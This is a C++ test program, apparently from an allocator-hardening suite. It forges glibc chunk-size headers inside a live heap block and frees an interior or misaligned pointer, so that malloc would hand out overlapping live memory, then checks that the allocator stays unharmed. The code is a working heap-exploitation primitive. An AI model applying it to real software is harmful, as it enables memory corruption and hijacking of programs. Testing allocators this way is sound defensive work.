// SPDX-License-Identifier: MIT
//
// interior_pointer SIZE [OFFSET]: free of an aligned address inside a live block; with an OFFSET that is no multiple of
// 16, of a misaligned one. Exploitable: malloc hands out a part of a block that is live.
#include "attack.h"

int main(int argc, char** argv) {
  using namespace attack;
  const size_t size = start(argc, argv);
  const size_t offset = argc > 2 ? strtoul(argv[2], nullptr, 10) : 16;
  settle(size);
  Block& block = take(size);
  block.watched = false;
  // What glibc takes for the size of a chunk, and of the one behind it.
  if (size >= 64) {
    memset(block.start, 0, block.size);
    const size_t chunk = 33;
    memcpy(block.start + offset - sizeof chunk, &chunk, sizeof chunk);
    memcpy(block.start + offset + 32 - sizeof chunk, &chunk, sizeof chunk);
  }
  begin();
  free(hide(block.start + offset));
  done();
  for (int i = 0; i < 64; ++i) take(24);
  aftermath(size);
  unharmed();
}
